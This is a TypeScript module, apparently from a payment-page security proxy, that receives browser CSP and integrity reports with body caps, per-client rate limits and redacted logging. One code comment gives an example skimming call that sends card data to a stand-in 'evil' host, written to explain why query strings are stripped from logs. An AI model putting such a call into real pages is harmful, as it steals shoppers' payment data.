/**
 * The report collector on the public port (`/.well-known/payguard/csp-report`): browsers post CSP
 * violations, script hashes and integrity-policy reports here. It is answered by payguard and never
 * forwarded. Anyone can post to it, so the body is capped, each client address is rate-limited, and
 * a report only ever increments a capped counter and writes one log line without query strings.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';
import { isIP } from 'node:net';
import { LIMITS } from '../../limits.js';
import { originOf } from '../../observe/labels.js';
import type { RequestFacts } from '../http/facts.js';
import type { TrustedProxies } from '../http/forwarded.js';
import { guarded, type ListenerFaults } from '../http/listener-guard.js';
import type { PolicySource, TrafficRecorder } from '../ports.js';
import { failSafe, type FailSafeServices } from '../verdict/fail-safe.js';
import type { SecondLayer } from './layer.js';
import { isExtensionNoise, parseBrowserReports, type BrowserReport } from './report-parse.js';

/** What the report collector (and the form sink beside it, reserved.ts) needs from the running payguard. */
export interface ReportServices extends FailSafeServices {
  readonly secondLayer: SecondLayer;
  readonly policy: PolicySource;
  readonly trusted: TrustedProxies;
  readonly listenerFaults?: ListenerFaults | undefined;
  readonly learner?: TrafficRecorder | undefined;
}

/** A larger report body is refused (413) unread (limits.ts). */
export const MAX_REPORT_BYTES = LIMITS.maxReportBytes;

export function answerCspReport(ctx: ReportServices, req: IncomingMessage, res: ServerResponse, facts: RequestFacts): void {
  const layer = ctx.secondLayer;
  if (req.method === 'OPTIONS') {
    // Reporting API deliveries are same-origin here (the endpoint is on the site), so no CORS grant is needed.
    answer(res, 204, facts);
    req.resume();
    return;
  }
  if (req.method !== 'POST') return refuse(req, res, facts, 405);
  // A body declared over the cap is refused before the rate limits are consulted: it is refused
  // unread either way, and it must not spend the budget that real browsers' reports share.
  if (declaredLength(req) > MAX_REPORT_BYTES) return refuse(req, res, facts, 413);
  const client = clientAddress(ctx, req, facts);
  if (!layer.reportLimit.take(client) || !layer.reportBudget.take('all')) return refuse(req, res, facts, 429);
  readReportBody(ctx, req, res, facts, (body) => {
    if (body === undefined) return refuse(req, res, facts, 413);
    const reports = parseBrowserReports(req.headers['content-type'], body);
    if (!reports) return answer(res, 400, facts);
    for (const report of reports) {
      if (!isExtensionNoise(report)) takeReport(ctx, layer, facts, report, client);
    }
    answer(res, 204, facts);
  });
}

/** The Content-Length the client declared (0 when absent or not a number: chunked bodies are capped while read). */
function declaredLength(req: IncomingMessage): number {
  const length = Number(req.headers['content-length']);
  return Number.isFinite(length) ? length : 0;
}

function takeReport(ctx: ReportServices, layer: SecondLayer, facts: RequestFacts, report: BrowserReport, client: string): void {
  const requestId = facts.client.requestId;
  switch (report.type) {
    case 'violation':
      layer.metrics.recordCspReport(report.directive, report.blocked);
      if (ctx.learner && isAboutReportRoute(ctx, report.documentUrl)) ctx.learner.browserReport({ directive: report.directive, blocked: report.blocked, documentUrl: report.documentUrl, client });
      ctx.logger.event('csp-report', {
        requestId,
        directive: report.directive,
        disposition: report.disposition,
        blocked: loggable(report.blocked),
        document: loggable(report.documentUrl),
        sourceFile: loggable(report.sourceFile),
      });
      return;
    case 'integrity':
      layer.metrics.recordCspReport('integrity-policy', report.blocked);
      ctx.logger.event('csp-report', { requestId, directive: 'integrity-policy', blocked: loggable(report.blocked), document: loggable(report.documentUrl) });
      return;
    case 'script-hash': {
      const outcome = layer.vantage.compare(ctx.policy.current().policy, report.scriptUrl, report.hash);
      if (outcome !== 'differs-from-served' && outcome !== 'differs-from-policy') return;
      layer.metrics.recordBrowserMismatch(outcome === 'differs-from-served' ? 'served' : 'policy', report.scriptUrl);
      ctx.logger.event('browser-mismatch', {
        requestId,
        against: outcome === 'differs-from-served' ? 'served' : 'policy',
        script: loggable(report.scriptUrl),
        document: loggable(report.documentUrl),
        browserHash: report.hash,
      });
      return;
    }
  }
}

/**
 * `serve --learn` learns from reports about the site's own pages on report routes only: a report
 * about a protected page names something payguard already refused to allow.
 */
function isAboutReportRoute(ctx: ReportServices, documentUrl: string | undefined): boolean {
  if (documentUrl === undefined || !URL.canParse(documentUrl)) return false;
  const url = new URL(documentUrl);
  const { compiled } = ctx.policy.current();
  return url.origin === compiled.policy.site && compiled.route(url.pathname).mode === 'report';
}

/**
 * A reported URL as it may be logged: origin and path only. Query strings and fragments can carry
 * card data or tokens (a blocked `fetch('https://evil/?cc=4111…')` is reported with its full URL).
 * Keywords (`inline`, `eval`) are kept; anything else unparsable is "invalid".
 */
export function loggable(value: string | undefined): string | undefined {
  if (value === undefined) return undefined;
  if (!URL.canParse(value)) return originOf(value);
  const url = new URL(value);
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return url.protocol;
  return url.origin + url.pathname;
}

/** The address the rate limit is kept for: the peer, or the client a trusted proxy names. */
function clientAddress(ctx: ReportServices, req: IncomingMessage, facts: RequestFacts): string {
  const chain = facts.client.forwardedFor.split(',').map((a) => a.trim()).filter(Boolean);
  // Walk back from the nearest hop past every proxy payguard trusts (X-Forwarded-For is appended to left to right).
  for (let i = chain.length - 1; i >= 0; i--) {
    if (!ctx.trusted.trusts(chain[i]!)) return rateLimitKey(chain[i]!);
  }
  return rateLimitKey(chain[0] ?? req.socket.remoteAddress ?? 'unknown');
}

/**
 * One bucket per IPv6 /64: a single host is routinely given a whole /64 (RFC 6177), so keying by
 * the full address would hand an attacker 2^64 fresh buckets. IPv4 (and IPv4-mapped) stay per address.
 */
export function rateLimitKey(address: string): string {
  if (!isIP(address) || isIP(address) === 4 || address.toLowerCase().startsWith('::ffff:')) return address;
  const [head = '', tail = ''] = address.toLowerCase().split('::');
  const left = head === '' ? [] : head.split(':');
  const right = tail === '' ? [] : tail.split(':');
  const groups = address.includes('::') ? [...left, ...Array<string>(8 - left.length - right.length).fill('0'), ...right] : left;
  return `${groups.slice(0, 4).map((g) => g.replace(/^0+(?=.)/, '')).join(':')}::/64`;
}

/** Calls `done` with the body as text, or undefined once it passes the cap (the rest is not read). */
function readReportBody(ctx: ReportServices, req: IncomingMessage, res: ServerResponse, facts: RequestFacts, done: (body: string | undefined) => void): void {
  const chunks: Buffer[] = [];
  let length = 0;
  let over = false;
  const listenerFailed = (err: unknown): void => {
    req.removeAllListeners('data');
    req.removeAllListeners('end');
    req.resume();
    failSafe(ctx, res, facts, err);
  };
  req.on('data', guarded<[Buffer]>('report-body', ctx.listenerFaults, listenerFailed, (chunk) => {
    if (over) return;
    length += chunk.length;
    if (length > MAX_REPORT_BYTES) {
      over = true;
      done(undefined);
      return;
    }
    chunks.push(chunk);
  }));
  req.once('end', guarded('report-body', ctx.listenerFaults, listenerFailed, () => {
    if (!over) done(Buffer.concat(chunks, length).toString('utf8'));
  }));
  req.once('error', () => res.destroy());
}

function refuse(req: IncomingMessage, res: ServerResponse, facts: RequestFacts, status: number): void {
  // The connection is closed after a refusal so an oversized or flooding body is not read to its end.
  res.setHeader('connection', 'close');
  answer(res, status, facts);
  req.resume();
}

function answer(res: ServerResponse, status: number, facts: RequestFacts): void {
  if (res.headersSent) return;
  res.writeHead(status, { 'content-length': '0', 'cache-control': 'no-store', 'x-request-id': facts.client.requestId });
  res.end();
}
